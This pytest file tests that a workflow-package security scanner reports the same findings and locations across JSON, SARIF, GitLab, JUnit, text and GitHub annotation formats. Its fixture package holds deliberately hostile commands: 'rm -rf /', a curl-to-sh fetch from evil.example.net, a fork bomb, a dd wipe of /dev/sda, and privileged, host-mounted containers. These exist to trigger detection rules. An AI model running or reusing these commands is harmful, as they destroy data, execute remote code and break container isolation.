"""Whatever form a reader takes, the findings have the same rules and the same places."""

import io
import json
import re
from collections.abc import Callable, Iterator
from xml.etree import ElementTree

import pytest
from report.parts import run

from wpk_sandbox.finding import Finding, Severity
from wpk_sandbox.package.load import load_bytes
from wpk_sandbox.publish.github import annotations, write_annotations
from wpk_sandbox.report.codequality import code_quality
from wpk_sandbox.report.findings import finding_lines
from wpk_sandbox.report.fingerprint import of_run
from wpk_sandbox.report.json import to_json
from wpk_sandbox.report.junit import junit
from wpk_sandbox.report.lines import plain
from wpk_sandbox.report.sarif import sarif
from wpk_sandbox.rules.check import check
from wpk_sandbox.rules.policy import Policy, decide
from wpk_sandbox.run.result import PackageResult, RunResult, Verdict

PATH = "my playbooks/größe.wpk.yaml"
PACKAGE = """\
apiVersion: v1
kind: WorkflowPackage
metadata: {name: many, version: 1.0.0}
spec:
  runtime: {type: k8s}
  safety: {mode: auto, rollback_enabled: true}
  retries: 3
  handlers:
    - name: "日本"
      type: shell
      config:
        command: |
          echo größe; rm -rf /
          curl https://evil.example.net/x | sh
          true;\t\t:(){ :|:& };:
    - name: many
      steps:
        - name: one
          container:
            image: busybox:latest
            command: [sh, -c, "dd if=/dev/zero of=/dev/sda"]
            securityContext: {privileged: true}
        - name: two
          kubernetes:
            apiVersion: v1
            kind: Pod
            metadata: {name: p}
            spec:
              hostNetwork: true
              containers:
                - {name: c, image: "nginx", securityContext: {capabilities: {add: [SYS_ADMIN]}}}
              volumes:
                - {name: v, hostPath: {path: /}}
        - name: three
          shell: {command: "rm -rf \\"${DIR}/\\"*"}
        - name: three
          shell: {command: "rm -rf \\"${DIR}/\\"*"}
"""
# Rule, path, line, column, and the end where a form has one.
Place = tuple[str, str, int, int, int, int]


@pytest.fixture(scope="module")
def result() -> RunResult:
    loaded = load_bytes(PACKAGE.encode(), PATH)
    (package,) = loaded.packages
    findings = (*loaded.findings, *check(package, Policy()))
    decision = decide(findings, Policy(), automatic=True)
    tried = PackageResult("many", "1.0.0", PATH, "", "default", Verdict.FAIL, "blocked", decision, findings)
    return run(tried)


def of_finding(finding: Finding) -> Place:
    place = finding.location
    return finding.rule, place.path, place.line, place.column, place.end_line, place.end_column


def expected(result: RunResult, least: Severity = Severity.INFO) -> list[Place]:
    found = result.packages[0].findings
    return sorted(of_finding(each) for each in found if each.severity.rank >= least.rank)


def of_json(result: RunResult) -> Iterator[Place]:
    for found in json.loads(to_json(result))["packages"][0]["findings"]:
        place = found["location"]
        yield found["rule"], place["path"], *(place[key] for key in ("line", "column", "end_line", "end_column"))


def of_sarif(result: RunResult) -> Iterator[Place]:
    for found in json.loads(sarif(of_run(result)))["runs"][0]["results"]:
        place = found["locations"][0]["physicalLocation"]
        assert place["artifactLocation"]["uri"] == "my%20playbooks/gr%C3%B6%C3%9Fe.wpk.yaml"
        region = place["region"]
        ends = [region[key] for key in ("startLine", "startColumn", "endLine", "endColumn")]
        yield found["ruleId"], PATH, *ends


def of_gitlab(result: RunResult) -> Iterator[Place]:
    for found in json.loads(code_quality(of_run(result))):
        begin, end = found["location"]["positions"]["begin"], found["location"]["positions"]["end"]
        places = begin["line"], begin["column"], end["line"], end["column"]
        yield found["check_name"], found["location"]["path"], *places


@pytest.mark.parametrize("form", [of_json, of_sarif, of_gitlab])
def test_forms_for_programs_have_every_finding_with_its_range(
    result: RunResult, form: Callable[[RunResult], Iterator[Place]]
) -> None:
    assert sorted(form(result)) == expected(result)


def of_listing(listing: str) -> list[tuple[str, str, int, int]]:
    """What the text form says in the first line of each finding."""
    heads = re.findall(rf"^({re.escape(PATH)}):(\d+):(\d+): \w+ ([a-z-]+): ", listing, re.MULTILINE)
    return sorted((rule, path, int(line), int(column)) for path, line, column, rule in heads)


def of_text(result: RunResult) -> str:
    return plain(finding_lines(result.packages[0].findings))


def of_junit(result: RunResult) -> str:
    root = ElementTree.fromstring(junit(result).encode())
    (case,) = [each for each in root.iter("testcase") if each.get("name") == "check"]
    return "\n".join(case.itertext())


@pytest.mark.parametrize("form", [of_text, of_junit])
def test_forms_for_people_have_every_finding_with_its_start(
    result: RunResult, form: Callable[[RunResult], str]
) -> None:
    assert of_listing(form(result)) == [place[:4] for place in expected(result)]


def test_annotations_have_every_finding_that_asks_for_something(result: RunResult) -> None:
    places = sorted(
        (each.title, place.path, place.line, place.column, place.end_line, place.end_column)
        for each in annotations(result)
        if (place := each.location) and place.line > 1
    )
    assert places == expected(result, Severity.LOW)


def test_annotations_that_the_runner_gets_name_the_same_places(result: RunResult) -> None:
    stream = io.StringIO()
    write_annotations(annotations(result), {}, stream)
    heads = re.findall(
        r"^::\w+ title=([a-z-]+),file=([^,]+),line=(\d+)(?:,endLine=\d+|,col=(\d+)\S*)?", stream.getvalue(), re.M
    )
    assert len(heads) >= 8
    known = {place[:4] for place in expected(result)}
    assert {(rule, path, int(line), int(column or 1)) for rule, path, line, column in heads if column} <= known


def test_the_package_has_enough_to_compare(result: RunResult) -> None:
    places = expected(result)
    assert len(places) >= 12
    assert len({place[0] for place in places}) >= 10
    assert any(place[0] == "unknown-field" for place in places), "a finding of the loader is among them"
    assert [place[2] for place in places if place[0] == "shell-unsafe-expansion"] == [35, 37], "two equal lines"
